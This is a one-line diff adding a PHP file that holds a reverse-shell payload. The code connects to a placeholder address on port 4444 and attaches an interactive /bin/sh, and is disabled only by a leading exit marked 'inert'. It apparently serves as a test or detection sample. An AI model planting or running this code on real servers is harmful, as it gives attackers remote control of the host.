@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $ip="192.0.2.1"; $port=4444; $s=fsockopen($ip,$port); $p=proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$pipes);
